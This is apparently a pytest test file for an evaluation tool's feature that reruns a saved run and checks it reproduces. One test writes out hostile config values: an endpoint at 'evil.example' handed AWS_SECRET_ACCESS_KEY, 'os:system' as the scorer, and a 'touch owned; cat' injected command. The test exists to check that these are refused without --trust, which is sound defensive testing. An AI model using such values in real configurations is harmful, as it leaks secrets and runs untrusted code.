"""A run again from its folder alone: equal answer by answer, within the noise of runs, or not."""

from __future__ import annotations

import json
import os
import shutil
import sys
from importlib.util import find_spec
from pathlib import Path

import pytest
import verify_runs as kinds
from click.testing import CliRunner

import eyechart as ec
from eyechart.app.claimed import Claim, against_claim
from eyechart.app.importing import import_logs
from eyechart.app.reproduce import Reproduced, reproduce
from eyechart.app.verify import verify
from eyechart.backends import gguf
from eyechart.cli import main
from eyechart.core.records import NotEstimable
from eyechart.stats.reproduction import Reproduction

DRAWN = (
    "dataset: {name: chart, subset: sentiment}\nmodel: {backend: synthetic, options: {accuracy: 0.7}}\n"
    "decoding: {temperature: 0.8, seed: 1}\nrepeats: 4\nevaluation: {extraction: lenient}\n"
)
MODEL = """
from itertools import count
from pathlib import Path
calls = count()

def answer(prompt):
    mode = Path("mode").read_text()
    wrong = mode == "worse" or (mode == "shaky" and next(calls) % 40 == 0)
    return " neither" if wrong else " positive"
"""
ASKED = (
    "dataset: {name: chart, subset: sentiment}\nmodel: {backend: function, path: 'theirs:answer'}\n"
    "prompt: {template: '{{question}}'}\nevaluation: {extraction: lenient}\n"
)


def result(found: Reproduced, at: int = 0) -> Reproduction:
    one = found.cells[at].result
    assert not isinstance(one, NotEstimable)
    return one


@pytest.fixture
def model(monkeypatch: pytest.MonkeyPatch) -> Path:
    Path("theirs.py").write_text(MODEL, encoding="utf-8")
    Path("mode").write_text("good")
    monkeypatch.syspath_prepend(str(Path.cwd()))
    sys.modules.pop("theirs", None)
    return kinds.made(ASKED, "run")


FIRST = ("sampled", "options", "judged")
"""The others are tried before a release."""


@pytest.mark.parametrize(
    "kind", [kind if kind in FIRST else pytest.param(kind, marks=pytest.mark.slow) for kind in kinds.KINDS]
)
def test_the_same_answers_again_without_the_data(kind):
    run = kinds.made(kinds.KINDS[kind], "run")
    Path("elsewhere").mkdir()
    shutil.move(run, "elsewhere/run")
    for name in ("test.jsonl", "pool.jsonl", "choices.jsonl", "keys/a.csv", "keys/b.csv", "study.yaml"):
        os.unlink(name)
    found = reproduce("elsewhere/run", "again")
    assert found.code == "reproduced", found.sentence
    assert all(c.answers.compared and not c.answers.differ for c in found.cells)
    assert found.calls["made"] > 0  # nothing of the first run was a cache hit
    assert reproduce("elsewhere/run", "again").calls["made"] == 0
    one, two = (ec.open(path) for path in ("elsewhere/run", "again"))
    assert one.facts["digests"] == two.facts["digests"]
    assert not [f for f in verify("again").findings if f.state == "broken"]


def test_samples_drawn_anew_are_held_against_the_noise_of_runs():
    kinds.made(DRAWN, "run")
    found = reproduce("run", "again", seed=2, repeats=3, within=0.1)
    assert found.code == "reproduced", found.sentence
    one = result(found)
    assert (one.runs, one.repeated, found.cells[0].answers.compared) == ((4, 3), "new runs of the same items", 0)
    assert one.first != one.second
    assert one.interval is not None
    assert one.interval.low < one.second < one.interval.high
    tight = reproduce("run", "again", seed=2, repeats=3, within=0.01)
    assert (tight.code, tight.calls["made"]) == ("cannot_tell", 0)


def test_more_repeats_at_the_same_seed_keep_the_first_ones():
    kinds.made(DRAWN, "run")
    found = reproduce("run", repeats=6, within=0.1)
    assert found.out == Path("eyechart-runs/run-again-x6")
    answers = found.cells[0].answers
    assert (answers.compared, answers.differ) == (480, 0)


def test_a_model_that_got_worse_is_not_reproduced(model: Path):
    Path("mode").write_text("worse")
    found = reproduce(model, "again", trust=True)
    assert found.code == "not_reproduced"
    answers = found.cells[0].answers
    assert (answers.compared, answers.differ) == (120, 120)
    assert answers.first is not None
    assert "' positive' then, ' neither' now" in answers.first
    done = CliRunner().invoke(main, ["reproduce", "run", "--out", "again", "--trust", "--quiet", "--json"])
    assert done.exit_code == 1
    told = json.loads(done.stdout)
    assert told["verdict"]["code"] == "not_reproduced"
    assert told["data"]["calls"]["made"] == 0
    assert told["data"]["cells"][0]["result"]["p"] < 0.01


def test_a_few_unequal_answers_are_named_and_are_within_the_noise(model: Path):
    Path("mode").write_text("shaky")
    found = reproduce(model, "again", trust=True)
    assert found.code == "reproduced", found.sentence
    assert found.cells[0].answers.differ == 3
    assert "3 of 120 answers to the same request differ" in found.sentence


def test_a_stranger_runs_nothing_here_unless_trusted(model: Path):
    with pytest.raises(ec.InputError, match=r"runs a Python function \(theirs:answer\); give --trust"):
        reproduce(model, "again")
    assert not Path("again").exists()
    shutil.copytree(kinds.made(kinds.KINDS["echo"], "echoed"), "theirs")  # run.json goes on saying that it is an echo
    hidden = "model: {backend: openai, url: 'http://evil.example', name: m, api_key_env: AWS_SECRET_ACCESS_KEY}"
    kinds.words("study.yaml", "model: {backend: echo}", hidden)(Path("theirs"))
    with pytest.raises(ec.InputError, match=r"hand it a key \(http://evil.example\); give --trust"):
        reproduce("theirs", "again")
    shutil.copytree("echoed", "scored")
    scored = "model: {backend: echo}\nevaluation: {method: function, function: 'os:system'}"
    kinds.words("study.yaml", "model: {backend: echo}", scored)(Path("scored"))
    with pytest.raises(ec.InputError, match=r"code of its author .*os:system"):
        reproduce("scored", "again")
    text = "dataset: {name: chart, subset: sentiment, limit: 3}\nmodel: {backend: command, path: 'touch owned; cat'}\n"
    kinds.made(text, "command")
    Path("owned").unlink(missing_ok=True)
    done = CliRunner().invoke(main, ["reproduce", "command", "--quiet"])
    assert done.exit_code == 2
    assert "--trust" in done.stderr
    assert not Path("owned").exists()


def test_another_machine_may_differ_and_says_so():
    run = kinds.made(kinds.KINDS["greedy"], "run")
    kinds.facts(lambda r: r["runtime"].update(cores=999))(run)
    kinds.facts(lambda r: r["engines"][0].update(version=0))(run)
    found = reproduce(run, "again")
    assert any("version: 0 then, 1 now" in text for text in found.may_differ)
    assert any("cores: 999 then" in text for text in found.may_differ)


def test_what_cannot_be_run_again_is_told():
    run = kinds.made(kinds.KINDS["greedy"], "run")
    with pytest.raises(ec.InputError, match="folder of its own"):
        reproduce(run, run)
    shutil.copytree(run, "old")
    (Path("old") / "inputs.json").unlink()
    assert reproduce("old", "again").code == "reproduced"  # its items alone are enough
    shots = kinds.made(kinds.SAMPLED, "shots")
    (shots / "inputs.json").unlink()
    with pytest.raises(ec.InputError, match=r"inputs\.json"):
        reproduce(shots, "again2")
    stopped = reproduce_stopped(
        kinds.made(kinds.KINDS["greedy"].replace("}\nprompt", "}\nbudget: {calls: 5}\nprompt", 1), "few")
    )
    assert (stopped.code, stopped.stopped is not None) == ("cannot_tell", True)


def reproduce_stopped(run: Path) -> Reproduced:
    return reproduce(run, "few-again")


def test_an_imported_log_cannot_be_asked(shared: Path):
    import_logs(shared / "fixtures" / "lm_eval", out="imported")
    folder = next(p.parent for p in Path("imported").rglob("run.json"))
    with pytest.raises(ec.InputError, match="imported log"):
        reproduce(folder, "again")


# A published number


def test_a_published_number():
    kinds.made(DRAWN, "run")
    score = ec.open("run").scores()[0].repeat_it.value  # pyright: ignore[reportAttributeAccessIssue]
    near, far = f"{score + 0.01:.3f}", f"{score - 0.25:.2f}"
    assert against_claim("run", Claim(text=near, runs=4), within=0.2).code == "reproduced"
    assert against_claim("run", Claim(text=far, n=120)).code == "not_reproduced"
    assert against_claim("run#c000", Claim(text=near, n=500), items="other", within=0.2).code == "reproduced"
    assert against_claim("run", Claim(text=near), items="other").code == "cannot_tell"  # no standard error
    greedy = kinds.made(kinds.KINDS["greedy"], "greedy")
    said = against_claim(greedy, Claim(text="0.5"))
    assert said.code == "cannot_tell"
    assert "here nothing is random" in said.sentence
    assert "another sample of items would give" in said.sentence
    for argument, code in ((near, 0), (far, 1)):
        words = ["reproduce", "run", "--claimed", argument, "--runs", "4", "--within", "0.2", "--json"]
        done = CliRunner().invoke(main, words)
        assert done.exit_code == code, done.output
        assert json.loads(done.stdout)["data"]["result"]["repeated"] == "a published number"


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["--claimed", "71"], "write 0.71"),
        (["--claimed", "most"], "is no number"),
        (["--claimed", "0.7", "--se", "0.1", "--interval", "0.6", "0.8"], "not both"),
        (["--claimed", "0.7", "--interval", "0.8", "0.9"], "does not lie in it"),
        (["--se", "0.1"], "belongs to --claimed"),
    ],
)
def test_a_claim_that_is_none_is_one_clear_line(words, said):
    kinds.made(kinds.KINDS["greedy"], "run")
    done = CliRunner().invoke(main, ["reproduce", "run", *words])
    assert done.exit_code == 2
    assert said in done.stderr


@pytest.mark.model
@pytest.mark.skipif(find_spec("openvino_genai") is None, reason="the extra `local` is not installed")
@pytest.mark.skipif(
    not gguf.target(gguf.CATALOGUE[0]).exists(), reason="the embedded model was not fetched: eyechart models fetch"
)
def test_the_embedded_model_gives_the_same_answers_to_the_last_bit():
    study = ec.loads(
        "dataset: {name: chart, subset: sentiment, limit: 5}\nmodel: {backend: embedded}\n"
        'prompt: {template: "Review: {{question}}\\nSentiment:", few_shot: {count: 2}}\n'
        "decoding: {max_new_tokens: 3, seed: 1}\nevaluation: {extraction: lenient}\nrepeats: {count: 2, greedy: 1}\n"
        "factors: [{decoding.temperature: [0, 0.8]}]\n"
    )
    study.run("run")
    assert verify("run").code == "verified", verify("run").sentence
    found = reproduce("run", "again")
    assert found.code == "reproduced"
    assert [cell.answers.differ for cell in found.cells] == [0, 0]
